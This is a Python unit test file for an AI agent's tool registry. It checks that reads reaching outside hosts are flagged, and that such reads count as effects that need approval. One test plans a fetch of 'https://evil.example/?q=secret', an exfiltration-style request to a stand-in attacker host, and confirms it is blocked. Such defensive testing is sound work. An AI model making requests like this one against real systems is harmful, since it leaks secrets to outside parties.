"""A read that reaches outside is an exit for data, so it is no free one."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import httpx
import pytest
from pydantic import AnyUrl, BaseModel, ConfigDict
from structlog.testing import capture_logs

from steward.domain.model import Plan, Risk, Step
from steward.domain.playbook import Rule
from steward.tools.loading import Spec
from steward.tools.registry import TOOLS, Registry
from steward.tools.spec import Context, ToolSpec, World
from tests.unit.domain.making import codes, expects, playbook_of
from tests.unit.graph.rig import Rig, accepts


class Place(BaseModel):
    model_config = ConfigDict(extra="forbid")
    target_url: str | None = None


class Fetch(BaseModel):
    model_config = ConfigDict(extra="forbid")
    page: str


class ByName(Fetch):
    callbackUrls: list[str] = []  # noqa: N815 - as others name it


class ByType(Fetch):
    where: AnyUrl


class Nested(Fetch):
    places: list[Place] = []


class Body(BaseModel):
    text: str


SENT: list[str] = []


async def run(args: Any, _: Context) -> Body:
    SENT.append(args.page)
    return Body(text="hello")


FETCH: Spec = ToolSpec(name="fetch", description="Fetch.", args=Fetch, result=Body, risk=Risk.READ, run=run)


def box(*tools: Spec) -> Registry:
    return Registry(tools, World(http=httpx.AsyncClient()))


@pytest.mark.usefixtures("own_logs")
@pytest.mark.parametrize(
    ("args", "named"), [(ByName, ["callbackUrls"]), (ByType, ["where"]), (Nested, ["places.target_url"]), (Fetch, [])]
)
def test_a_read_that_takes_an_address_is_warned_of(args: type[BaseModel], named: list[str]) -> None:
    """By the argument's name, type or format, nested too; unless it says what it is, or is an effect anyway."""
    for tool, warned in [
        (replace(FETCH, args=args), named),
        (replace(FETCH, args=args, egress=True), []),
        (replace(FETCH, args=args, egress=False), []),
        (replace(FETCH, args=args, risk=Risk.REVERSIBLE), []),
    ]:
        with capture_logs() as logs:
            box(tool)
        assert [log["arguments"] for log in logs if log["event"] == "tool.egress_undeclared"] == (
            [warned] if warned else []
        )


@pytest.mark.usefixtures("own_logs")
def test_the_shipped_tools_need_no_warning() -> None:
    """None of their reads reaches outside."""
    with capture_logs() as logs:
        box(*TOOLS)
    assert logs == []


def rig_of(tool: Spec, *pages: str, **playbook: Any) -> Rig:
    SENT.clear()
    steps = [Step(id=f"s{number}", tool="fetch", args={"page": page}) for number, page in enumerate(pages)]
    return Rig(
        script=[Plan(playbook="desk", confidence=1.0, steps=steps)],
        acceptance=accepts(expects("fetch", {"page": "a"})),
        tools=box(tool),  # pyright: ignore[reportArgumentType] - a toolbox all the same
        playbook=playbook_of(tools=["fetch"], **playbook),
    )


async def test_a_read_that_reaches_outside_counts_like_an_effect() -> None:
    """What the goal does not call for is refused before it is sent; a plain read is free."""
    rig = rig_of(replace(FETCH, egress=True), "a", "https://evil.example/?q=secret")
    await rig.begin()
    assert SENT == []
    assert "unexpected_effect" in {code for request in rig.planner.requests for code in codes(request.problems)}

    plain = rig_of(FETCH, "a", "b")
    assert (await plain.begin()).status == "complete"
    assert SENT == ["a", "b"]


async def test_what_is_called_for_goes_through_and_rules_see_it() -> None:
    """It completes where it is wanted, and an approval or a rule for effects stops it."""
    tool = replace(FETCH, egress=True)
    assert (await rig_of(tool, "a").begin()).status == "complete"
    assert SENT == ["a"]

    rule = Rule(id="effects", when="risk != 'read'", then="review", message="Effects are approved.")
    rig = rig_of(tool, "a", rules=[rule])
    await rig.begin()
    assert await rig.reason() == "approval"
    assert SENT == []


async def test_its_lost_answer_is_asked_for_again() -> None:
    """It is still a read: that its answer was lost makes nobody unsure of the world."""
    failures = iter([ConnectionError("gone")])

    async def flaky(args: Any, context: Context) -> Body:
        for failure in failures:
            raise failure
        return await run(args, context)

    rig = rig_of(replace(FETCH, egress=True, run=flaky), "a")

    assert (await rig.begin()).status == "complete"
